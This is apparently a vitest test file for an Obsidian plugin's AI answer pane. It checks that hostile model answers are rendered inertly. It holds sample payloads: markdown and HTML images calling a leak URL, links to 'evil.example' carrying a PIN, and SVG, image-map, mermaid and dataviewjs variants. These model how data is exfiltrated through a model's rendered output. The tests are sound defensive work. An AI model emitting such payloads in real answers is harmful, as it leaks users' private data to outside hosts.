// Hostile answers in the pane, as if the sidecar's own check had missed everything (it runs the
// same corpus: tests/test_security_render.py). Every render of an answer (while it streams, the
// checked answer, its Sources list) happens where nothing loads and goes through the allowlist
// (src/safe-render.ts, tested on its own in tests/safe-render.test.ts) before it joins the pane.
// The renderer here passes raw HTML through, as Obsidian's does (markdown-it with HTML on).
import { describe, expect, it, vi } from "vitest";
import type { AgentEvent } from "../../src/generated/contract";
import { Component, MarkdownRenderer } from "../../stub/obsidian";
import { HOSTILE, parsed, rendered, violations } from "../hostile-dom";
import { done, loadPlugin } from "./helpers";

const LEAK = "http://127.0.0.1:9/leak?d=4931-violet";

/** Render with raw HTML passed through, recording the document and markdown of each render. */
function htmlRenderer(): { targets: Document[]; markdowns: string[]; restore: () => void } {
	const targets: Document[] = [];
	const markdowns: string[] = [];
	const render = vi.spyOn(MarkdownRenderer, "render").mockImplementation(async (_app, markdown, el) => {
		targets.push(el.ownerDocument);
		markdowns.push(markdown);
		el.append(...parsed(markdown));
	});
	return { targets, markdowns, restore: () => render.mockRestore() };
}

describe("a hostile answer in the pane", () => {
	const answer = HOSTILE.map((form) => form.markdown).join("\n\n") + "\n\nAs shown in [[Inbox/Exfil media]].";

	it("is rendered where nothing loads, then shown with nothing that loads or links unsafely", async () => {
		const { targets, restore } = htmlRenderer();
		try {
			const loaded = await loadPlugin([done(answer, [])]);
			await loaded.plugin.openAskView(null);
			await loaded.view().ask("Show me the status board note.");
			const pane = loaded.app.sidebarEl;
			expect(targets).toHaveLength(1);
			expect(targets[0]).not.toBe(document); // a document without a window: nothing fetched
			expect(pane.querySelector(".vault-agent-answer")?.children.length).toBeGreaterThan(0);
			expect(violations(pane)).toEqual([]);
			expect(pane.querySelector(".vault-agent-footer")?.textContent).toMatch(/remote images or tags were not loaded/);
		} finally {
			restore();
		}
	});

	it("would load remote URLs if rendered as it is (the check above is not vacuous)", async () => {
		const loaded = await loadPlugin();
		const el = document.createElement("div");
		await MarkdownRenderer.render(loaded.app, answer, el, "", new Component());
		expect(violations(el).length).toBeGreaterThan(0);
		expect(violations(rendered(answer)).length).toBeGreaterThan(50);
	});

	it("shows the Sources list through the same allowlist", async () => {
		const { targets, restore } = htmlRenderer();
		try {
			const withSources = `See [[Inbox/Exfil media]].\n\nSources:\n- [[Inbox/Exfil media]] <img src="${LEAK}&via=sources">`;
			const loaded = await loadPlugin([done(withSources, [])]);
			await loaded.plugin.openAskView(null);
			await loaded.view().ask("Show me the status board note.");
			const pane = loaded.app.sidebarEl;
			expect(targets).toHaveLength(2); // the answer, then its Sources list
			expect(targets.every((target) => target !== document)).toBe(true);
			expect(pane.querySelector(".vault-agent-sources")?.textContent).toContain("Inbox/Exfil media");
			expect(violations(pane)).toEqual([]);
			expect(pane.querySelector(".vault-agent-footer")?.textContent).toMatch(/1 remote image or tag was not loaded/);
		} finally {
			restore();
		}
	});

	it("hands Obsidian no fence it would draw or run: a mermaid or dataviewjs block is plain code", async () => {
		const { markdowns, restore } = htmlRenderer();
		try {
			const blocks = "```mermaid\ngraph LR\n  A[\"<img src='" + LEAK + "'>\"]\n```\n\n```dataviewjs\ndv.paragraph(1)\n```";
			const script: AgentEvent[] = [{ event: "delta", text: blocks, turn: 1 }, done(`${blocks}\n\n\`\`\`ts\nconst a = 1;\n\`\`\``, [])];
			const loaded = await loadPlugin(script);
			await loaded.plugin.openAskView(null);
			loaded.client.between = () => new Promise((resolve) => setTimeout(resolve, 250)); // a streamed render
			await loaded.view().ask("Draw the recipe.");
			expect(markdowns.length).toBeGreaterThan(1);
			for (const markdown of markdowns) expect(markdown).not.toMatch(/```(?:mermaid|dataviewjs)/);
			expect(markdowns.at(-1)).toContain("```ts\nconst a = 1;");
		} finally {
			restore();
		}
	});

	it("shows no web link of the model's raw text, while it streams or once it stopped: links to notes stay", async () => {
		const { restore } = htmlRenderer();
		try {
			const script: AgentEvent[] = [
				{ event: "delta", text: "[Verify it here](https://evil.example/v?pin=4931) or see [[Inbox/Exfil media]]", turn: 1 },
				{ event: "error", code: "model_unavailable", message: "the model went away" },
			];
			const loaded = await loadPlugin(script);
			await loaded.plugin.openAskView(null);
			const during: string[][] = [];
			loaded.client.between = async () => {
				await new Promise((resolve) => setTimeout(resolve, 250)); // past the render throttle
				const shown = loaded.app.sidebarEl.querySelector(".vault-agent-answer")!;
				during.push(Array.from(shown.querySelectorAll("a")).map((a) => a.getAttribute("href") ?? ""));
			};
			await loaded.view().ask("Where is my PIN?");
			const answer = loaded.app.sidebarEl.querySelector(".vault-agent-answer")!;
			for (const hrefs of [...during, Array.from(answer.querySelectorAll("a")).map((a) => a.getAttribute("href") ?? "")]) {
				expect(hrefs.some((href) => href.includes("evil.example")), hrefs.join(" ")).toBe(false);
			}
			expect(answer.textContent).toContain("Verify it here");
		} finally {
			restore();
		}
	});

	it("shows no web link of the model's raw text written as raw HTML either: an SVG link or an image map's area", async () => {
		const { restore } = htmlRenderer();
		try {
			const raw =
				'<svg width="200" height="40"><a xlink:href="https://evil.example/svg?pin=4931"><text y="20">Verify</text></a></svg> ' +
				'<img src="board.png" usemap="#m" width="200" height="40"><map name="m"><area shape="default" href="https://evil.example/area?pin=4931"></map>';
			const script: AgentEvent[] = [
				{ event: "delta", text: raw, turn: 1 },
				{ event: "error", code: "model_unavailable", message: "the model went away" },
			];
			const loaded = await loadPlugin(script);
			await loaded.plugin.openAskView(null);
			const during: string[][] = [];
			const hrefs = (root: Element) =>
				Array.from(root.querySelectorAll("*")).flatMap((el) => Array.from(el.attributes).filter((a) => a.localName === "href").map((a) => a.value));
			loaded.client.between = async () => {
				await new Promise((resolve) => setTimeout(resolve, 250)); // past the render throttle
				during.push(hrefs(loaded.app.sidebarEl.querySelector(".vault-agent-answer")!));
			};
			await loaded.view().ask("Where is my PIN?");
			const answer = loaded.app.sidebarEl.querySelector(".vault-agent-answer")!;
			expect(during.length).toBeGreaterThan(0);
			for (const found of [...during, hrefs(answer)]) {
				expect(found.some((href) => href.includes("evil.example")), found.join(" ")).toBe(false);
			}
			expect(answer.textContent).toContain("Verify");
		} finally {
			restore();
		}
	});

	it("renders the streaming answer as markdown, where nothing loads, with nothing unsafe in it either", async () => {
		const { targets, restore } = htmlRenderer();
		try {
			const script: AgentEvent[] = [
				{ event: "delta", text: `**Status** ![board](${LEAK}) <img src="${LEAK}"> see [[Inbox/Exfil media]]`, turn: 1 },
				{ event: "error", code: "model_unavailable", message: "the model went away" },
			];
			const loaded = await loadPlugin(script);
			await loaded.plugin.openAskView(null);
			const during: { bold: number; violations: string[] }[] = [];
			loaded.client.between = async () => {
				await new Promise((resolve) => setTimeout(resolve, 250)); // past the render throttle
				const shown = loaded.app.sidebarEl.querySelector(".vault-agent-answer")!;
				during.push({ bold: shown.querySelectorAll("strong").length, violations: violations(loaded.app.sidebarEl) });
			};
			await loaded.view().ask("Show me the status board note.");
			expect(during[0]).toEqual({ bold: 1, violations: [] });
			expect(targets.length).toBeGreaterThan(0);
			expect(targets.every((target) => target !== document)).toBe(true);
			expect(violations(loaded.app.sidebarEl)).toEqual([]);
		} finally {
			restore();
		}
	});

	it("goes on streaming and shows the checked answer after one render failed, rendering no more than it shows", async () => {
		let calls = 0;
		const render = vi.spyOn(MarkdownRenderer, "render").mockImplementation(async (_app, markdown, el) => {
			calls += 1;
			if (calls === 1) throw new Error("an embed could not be read");
			await new Promise((resolve) => setTimeout(resolve, 400)); // slower than the throttle
			el.append(...parsed(markdown));
		});
		try {
			const script: AgentEvent[] = [
				{ event: "delta", text: "Fed Gus ", turn: 1 },
				{ event: "delta", text: "on Sunday ", turn: 1 },
				{ event: "delta", text: "at eight.", turn: 1 },
				done("Fed Gus on Sunday at eight, checked."),
			];
			const loaded = await loadPlugin(script);
			await loaded.plugin.openAskView(null);
			loaded.client.between = async () => {
				await new Promise((resolve) => setTimeout(resolve, 150)); // past the render throttle
			};
			await loaded.view().ask("When did I feed Gus?");
			const shown = loaded.app.sidebarEl.querySelector(".vault-agent-answer")!;
			expect(shown.textContent).toContain("Fed Gus on Sunday at eight, checked.");
			// Four throttled renders were asked for while two were slow: one waits, not three.
			expect(calls).toBeLessThanOrEqual(4);
		} finally {
			render.mockRestore();
		}
	});
});
